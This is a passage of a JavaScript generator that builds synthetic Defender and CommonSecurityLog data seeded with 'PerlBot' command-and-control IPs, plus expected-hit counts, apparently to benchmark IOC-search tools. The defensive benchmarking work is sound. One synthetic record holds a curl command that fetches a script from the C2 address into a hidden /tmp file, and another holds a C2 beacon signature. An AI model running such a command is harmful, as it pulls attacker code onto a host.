    if (proc.browser && action === 'ConnectionSuccess' && rng.chance(0.7)) props.RemoteUrl = `https://${rng.pick(DOMAINS)}`;
    if (action.endsWith('Inspected')) {
      props.AdditionalFields = action === 'HttpConnectionInspected'
        ? JSON.stringify({ direction: 'Out', host: rng.pick(DOMAINS), method: 'GET', uri: rng.pick(URL_PATHS), user_agent: rng.pick(USER_AGENTS), status_code: 200 })
        : action === 'DnsConnectionInspected'
          ? JSON.stringify({ direction: 'Out', query: rng.pick(DOMAINS), query_type: 'A', rcode_name: 'NOERROR', answers: [publicIp(rng)] })
          : JSON.stringify({ direction: 'Out', server_name: rng.pick(DOMAINS), version: 'TLSv12', established: true });
    }
    return props;
  }

  function envelope(props) {
    const received = isoTime(ms + rng.range(20000, 200000), rng.int(10000));
    return JSON.stringify({
      time: received,
      tenantId,
      operationName: 'Publish',
      category: 'AdvancedHunting-DeviceNetworkEvents',
      _TimeReceivedBySvc: isoTime(ms + rng.range(1000, 19000), rng.int(10000)),
      properties: props,
      Tenant: 'DefaultTenant',
    }) + CRLF;
  }

  const linuxDevices = devices.filter((d) => d.linux);

  function perlbotProps(ctxProc, ioc) {
    const device = ctxProc.fileName.endsWith('.exe') ? rng.pick(devices.filter((d) => !d.linux)) : rng.pick(linuxDevices);
    const proc = { ...ctxProc, size: ctxProc.fileName.startsWith('perl') ? 3988736 : 77120 };
    const p = base(device, proc, rng.chance(0.8) ? 'ConnectionSuccess' : rng.pick(['ConnectionRequest', 'ConnectionFailed', 'ConnectionFound']));
    p.InitiatingProcessAccountName = ctxProc.account;
    p.RemoteIP = dneForm()(ioc);
    if (p.RemoteIP.startsWith('::')) {
      p.LocalIP = `::ffff:${device.localIp}`;
      p.RemoteIPType = 'FourToSixMapping';
      p.LocalIPType = 'FourToSixMapping';
    }
    p.RemotePort = rng.chance(0.85) ? 443 : rng.pick([80, 8080, 4444]);
    p.RemoteIPType = p.RemoteIPType === 'FourToSixMapping' ? p.RemoteIPType : 'Public';
    return p;
  }

  return {
    header: () => '',
    next() {
      ms += rng.int(25);
      const kind = kindOf(rng);
      let props;
      let suppressedBy = null;
      let intendedIocs = [];
      let urlIoc = null;
      switch (kind) {
        case 'normal': {
          const device = rng.pick(devices);
          const proc = device.linux ? rng.pick(linuxProcs) : rng.pick(winProcs);
          props = base(device, proc, ACTION_TYPES(rng));
          if (rng.chance(0.01)) {
            props.RemoteIP = `::ffff:${props.RemoteIP}`;
            props.LocalIP = `::ffff:${props.LocalIP}`;
            props.LocalIPType = props.RemoteIPType = 'FourToSixMapping';
          }
          break;
        }
        case 'hit': {
          const ioc = rng.chance(0.5) ? IOC84 : IOC86;
          intendedIocs = [ioc];
          props = perlbotProps(perlbotContext(), ioc);
          const shape = hitShape();
          if (shape === 'url') {
            props.RemoteUrl = `http://${ioc}/gate.php`;
            urlIoc = ioc;
          } else if (shape === 'proxy') {
            // through a proxy: RemoteIP is the proxy, only the URL's host is the C2
            props.RemoteIP = '10.0.5.10';
            props.RemotePort = 3128;
            props.RemoteIPType = 'Private';
            props.RemoteUrl = rng.chance(0.5) ? `${ioc}:443` : `https://${ioc}:8443/b`;
            urlIoc = ioc;
          } else if (shape === 'both') {
            // both IOCs: a redirect from one C2 to the other
            const other = ioc === IOC84 ? IOC86 : IOC84;
            props.RemoteUrl = `http://${other}/next`;
            urlIoc = other;
            intendedIocs = [ioc, other];
          } else if (shape === 'local') {
            // the C2 address on the local side (an inbound row as Defender records a NAT'd peer)
            props.ActionType = 'InboundConnectionAccepted';
            props.LocalIP = props.RemoteIP;
            props.LocalPort = 443;
            props.RemoteIP = privateIp(rng);
            props.RemotePort = ephemeralPort(rng);
            props.RemoteIPType = 'Private';
          }
          break;
        }
        case 'suppressed':
        case 'exclusion-lookalike': {
          const ioc = rng.chance(0.5) ? IOC84 : IOC86;
          intendedIocs = [ioc];
          let context;
          if (kind === 'suppressed') {
            const s = suppression();
            context = s.ctx;
            suppressedBy = s.rule;
          } else {
            context = exclusionLookalike();
          }
          props = perlbotProps(context, ioc);
          break;
        }
        case 'ioc-text': {
          const ioc = rng.chance(0.5) ? IOC84 : IOC86;
          const device = rng.pick(linuxDevices);
          props = base(device, rng.pick(linuxProcs), 'ConnectionSuccess');
          switch (textCase()) {
            case 0:
              props.InitiatingProcessFileName = 'curl';
              props.InitiatingProcessCommandLine = `curl -s -m 5 http://${ioc}/x.pl -o /tmp/.x.pl`;
              props.RemoteIP = '10.0.5.10';
              props.RemotePort = 3128;
              props.RemoteIPType = 'Private';
              break;
            case 1:
              props.RemoteUrl = `https://www.virustotal.com/gui/ip-address/${ioc}`;
              break;
            case 2:
              props.RemoteUrl = `http://${ioc}.nip.io/`;
              break;
            case 3:
              props.ActionType = 'NetworkSignatureInspected';
              props.AdditionalFields = JSON.stringify({ SignatureName: 'PerlBot_C2_Beacon', SignatureMatchedContent: `Host: ${ioc}`, SamplePacketContent: `GET /gate.php HTTP/1.1\r\nHost: ${ioc}\r\n` });
              break;
            default:
              props.ActionType = 'HttpConnectionInspected';
              props.AdditionalFields = JSON.stringify({ direction: 'Out', host: 'proxy.contoso.local', RemoteIP: ioc, note: 'blocked by proxy policy' });
              break;
          }
          break;
        }
        case 'lookalike-ip': {
          const device = rng.pick(devices);
          props = base(device, device.linux ? rng.pick(linuxProcs) : rng.pick(winProcs), 'ConnectionSuccess');
          const fake = lookalike()(rng.chance(0.5) ? IOC84 : IOC86);
          const field = lookalikeField();
          if (field === 'RemoteIP') props.RemoteIP = fake;
          else if (field === 'LocalIP') props.LocalIP = fake;
          else props.RemoteUrl = `http://${fake}/`;
          break;
        }
      }
      const matches = [];
      for (const [field, value] of [['RemoteIP', props.RemoteIP], ['LocalIP', props.LocalIP]]) {
        const ip = typeof value === 'string' ? iocOf(value) : null;
        if (ip) matches.push({ field, ip });
      }
      if (urlIoc !== null) matches.push({ field: 'RemoteUrl', ip: urlIoc });
      return { kind, text: envelope(props), matches, intendedIocs, suppressedBy };
    },
  };
}

// ========================================================================= writing

const IOC_PREFIX = '179.43.139.8'; // shared by both IOCs: a cheap pre-check

function countNewlines(text) {
  let n = 0;
  for (let i = text.indexOf('\n'); i >= 0; i = text.indexOf('\n', i + 1)) n++;
  return n;
}

async function writeTable({ dir, name, table, format, generator, size, log }) {
  const path = join(dir, name);
  const gzPath = `${path}.gz`;
  const out = createWriteStream(path);
  const gz = createGzip({ level: 6 });
  const gzOut = createWriteStream(gzPath);
  const plainHash = createHash('sha256');
  const gzHash = createHash('sha256');
  let gzBytes = 0;
  gz.on('data', (chunk) => {
    gzHash.update(chunk);
    gzBytes += chunk.length;
  });
  gz.pipe(gzOut);

  const stats = {
    records: 0,
    lines: 0,
    hits: 0,
    suppressed: 0,
    suppressedByRule: {},
    perIoc: Object.fromEntries(IOCS.map((ip) => [ip, { hits: 0, suppressed: 0 }])),
    kinds: {},
    rgLines: 0,
    multilineRecords: 0,
  };
  const expectedHits = [];
  let parts = [];
  let pending = 0;
  let bytes = 0;
  let line = 1;

  async function flush() {
    if (parts.length === 0) return;
    const buffer = Buffer.from(parts.join(''), 'utf8');
    parts = [];
    pending = 0;
    plainHash.update(buffer);
    const okPlain = out.write(buffer);
    const okGz = gz.write(buffer);
    // both listeners attached before either wait: awaiting one 'drain' after the other could
    // miss the second (then nothing is pending and Node exits with status 13)
    await Promise.all([okPlain ? null : once(out, 'drain'), okGz ? null : once(gz, 'drain')]);
  }

  const header = generator.header();
  if (header) {
    parts.push(header);
    bytes += Buffer.byteLength(header);
    line += countNewlines(header);
  }
  let nextReport = 64 * MiB;
  for (;;) {
    const record = generator.next();
    const length = Buffer.byteLength(record.text);
    if (bytes + length > size) break;
    const newlines = countNewlines(record.text);
    stats.records++;
    stats.kinds[record.kind] = (stats.kinds[record.kind] ?? 0) + 1;
    if (newlines > 1) stats.multilineRecords++;

    // what ripgrep will count: physical lines holding either IOC text
    if (record.text.includes(IOC_PREFIX)) {
      for (const physical of record.text.split('\n')) {
        if (physical.includes(IOC84) || physical.includes(IOC86)) stats.rgLines++;
      }
    }

    // ground truth, checked against what the record was meant to be
    const ips = [...new Set(record.matches.map((m) => m.ip))];
    const meantAsHit = record.kind === 'hit' || record.kind === 'suppressed' || record.kind === 'exclusion-lookalike';
    if (meantAsHit !== ips.length > 0 || (meantAsHit && ips.slice().sort().join() !== record.intendedIocs.slice().sort().join())) {
      throw new Error(`generator bug: ${name} record ${stats.records} (${record.kind}) meant ${record.intendedIocs.join('+') || 'no hit'}, wrote matches ${JSON.stringify(record.matches)}`);
    }
    if (record.kind === 'normal' && (record.text.includes(IOC84) || record.text.includes(IOC86))) {
      throw new Error(`generator bug: ${name} record ${stats.records} is filler but holds IOC text`);
    }
    if (ips.length > 0) {
      const suppressed = record.suppressedBy !== null;
      if (suppressed) {
        stats.suppressed++;
        stats.suppressedByRule[record.suppressedBy] = (stats.suppressedByRule[record.suppressedBy] ?? 0) + 1;
      } else {
        stats.hits++;
      }
      for (const ip of ips) stats.perIoc[ip][suppressed ? 'suppressed' : 'hits']++;
      expectedHits.push({ record: stats.records, line, iocs: ips, fields: record.matches.map((m) => m.field).sort(), suppressedBy: record.suppressedBy, kind: record.kind });
    }

    parts.push(record.text);
    pending += length;
    bytes += length;
    line += newlines;
    if (pending >= MiB) await flush();
    if (bytes >= nextReport) {
      log?.(`  ${name}: ${formatSize(Math.floor(bytes / MiB) * MiB)} of ${formatSize(size)}`);
      nextReport += 64 * MiB;
    }
  }
  await flush();
  out.end();
  gz.end();
  await Promise.all([finished(out), finished(gzOut)]);
  stats.lines = line - 1; // every record ends with CRLF: lines = newlines

  const counts = {
    table,
    records: stats.records,
    lines: stats.lines,
    hits: stats.hits,
    suppressed: stats.suppressed,
    suppressedByRule: stats.suppressedByRule,
    perIoc: IOCS.map((ip) => ({ ip, ...stats.perIoc[ip] })),
    kinds: stats.kinds,
    rgLines: stats.rgLines,
    multilineRecords: stats.multilineRecords,
    textBytes: bytes,
    expectedHits: `${name}.hits.json`,
  };
  writeFileSync(join(dir, `${name}.hits.json`), JSON.stringify(expectedHits, null, 0).replace(/\},\{/g, '},\n{') + '\n');
  return [
    { name, format, compressed: false, bytes, sha256: plainHash.digest('hex'), ...counts },
    { name: `${name}.gz`, format, compressed: true, bytes: gzBytes, sha256: gzHash.digest('hex'), ...counts },
  ];
}

/** Fraction of CSV fields written quoted (by the portal rule), measured on the first records. */
function quotedRatio(seed) {
  const g = makeCslGenerator(seed);
  let fields = 0;
  let quoted = 0;
  for (let i = 0; i < 20000; i++) {
    const { text } = g.next();
    // the cells are simple enough to count with the row template: re-run the quoting rule
    let inQuotes = false;
    let startQuoted = false;
    let atStart = true;
    for (let j = 0; j < text.length; j++) {
      const ch = text[j];
      if (atStart) {
        startQuoted = ch === '"';
        atStart = false;
        if (startQuoted) {
          inQuotes = true;
          continue;
        }
      }
      if (ch === '"') inQuotes = !inQuotes;
      else if (!inQuotes && (ch === ',' || ch === '\n')) {
        fields++;
        if (startQuoted) quoted++;
        atStart = true;
      }
    }
  }
  return Math.round((quoted / fields) * 1000) / 1000;
}

function manifestMatches(path, size, seed) {
  if (!existsSync(path)) return null;
  try {
    const m = JSON.parse(readFileSync(path, 'utf8'));
    if (m.generatorVersion !== GENERATOR_VERSION || m.size !== size || m.seed !== seed) return null;
    for (const f of m.files) {
      if (statSync(join(dirname(path), f.name)).size !== f.bytes) return null;
    }
    return m;
  } catch {
    return null;
  }
}

/**
 * The dataset for (size, seed): reused when complete, generated otherwise.
 * Returns the manifest with `dir` set.
 */
export async function ensureDataset({ size, seed = 1, dataDir = DEFAULT_DATA_DIR, force = false, log = (s) => process.stderr.write(`${s}\n`) }) {
  const dir = datasetDir(dataDir, size, seed);
  const manifestPath = join(dir, 'manifest.json');
  let manifest;
  if (!force) {
    const existing = manifestMatches(manifestPath, size, seed);
    if (existing) {
      log(`dataset ${dir}: present (manifest matches size ${formatSize(size)}, seed ${seed}), not regenerated`);
      return { ...existing, dir };
    }
  }
  // Written into a private directory and renamed into place when complete, so that two
  // benchmarks started at once never interleave their writes, and a dataset directory with
  // a manifest is always whole.
  const work = `${dir}.tmp-${process.pid}`;
  rmSync(work, { recursive: true, force: true });
  mkdirSync(work, { recursive: true });
  log(`generating ${formatSize(size)} per file, seed ${seed}, into ${dir}`);
  const started = Date.now();
  try {
    writeFileSync(join(work, 'iocs.txt'), IOCS.join('\n') + '\n');
    const files = [
      ...(await writeTable({ dir: work, name: 'CommonSecurityLog.csv', table: 'CommonSecurityLog', format: 'csv', generator: makeCslGenerator(seed), size, log })),
      ...(await writeTable({ dir: work, name: 'DeviceNetworkEvents.ndjson', table: 'DeviceNetworkEvents', format: 'ndjson', generator: makeDneGenerator(seed), size, log })),
    ];
    manifest = {
      description: 'Generated by bench/generate.mjs. Counts follow docs/hits.md and docs/exclusions.md with the default exclusions and IOCs; rgLines is what `rg -F -c -f iocs.txt FILE` must print.',
      generatorVersion: GENERATOR_VERSION,
      size,
      sizeLabel: formatSize(size),
      seed,
      iocs: IOCS,
      cslQuotedFieldRatio: quotedRatio(seed),
      files,
    };
    writeFileSync(join(work, 'manifest.json'), JSON.stringify(manifest, null, 2) + '\n');
    const raced = force ? null : manifestMatches(manifestPath, size, seed);
    if (raced) {
      // another run finished the same dataset meanwhile: the bytes are the same, keep theirs
      log(`dataset ${dir}: completed by another run meanwhile (same bytes), using that one`);
      rmSync(work, { recursive: true, force: true });
      return { ...raced, dir };
    }
    rmSync(dir, { recursive: true, force: true });
    renameSync(work, dir);
  } catch (error) {
    rmSync(work, { recursive: true, force: true });
    throw error;
  }
  log(`generated in ${((Date.now() - started) / 1000).toFixed(1)} s`);
  return { ...manifest, dir };
}

// ------------------------------------------------------------------------- CLI

function parseCli(argv) {
  const args = { size: GiB, seed: 1, dataDir: DEFAULT_DATA_DIR, force: false };
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i];
    const value = () => {
      const eq = a.indexOf('=');
      if (eq >= 0) return a.slice(eq + 1);
      if (i + 1 >= argv.length) throw new Error(`${a} needs a value`);
      return argv[++i];
    };
    if (a === '--help' || a === '-h') {
      process.stdout.write('usage: node bench/generate.mjs [--size 1GiB] [--seed 1] [--dir bench/data] [--force]\n');
      process.exit(0);
    } else if (a.startsWith('--size')) args.size = parseSize(value());
    else if (a.startsWith('--seed')) args.seed = Number.parseInt(value(), 10) >>> 0;
    else if (a.startsWith('--dir')) args.dataDir = value();
    else if (a === '--force') args.force = true;
    else throw new Error(`unknown option ${a}`);
  }
  return args;
}

if (process.argv[1] && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  try {
    const manifest = await ensureDataset(parseCli(process.argv.slice(2)));
    for (const f of manifest.files) {
      process.stdout.write(`${join(manifest.dir, f.name)}  ${f.bytes} bytes  records ${f.records}  hits ${f.hits}  suppressed ${f.suppressed}  rgLines ${f.rgLines}\n`);
    }
  } catch (error) {
    process.stderr.write(`generate: ${error instanceof Error ? error.message : String(error)}\n`);
    process.exit(2);
  }
}
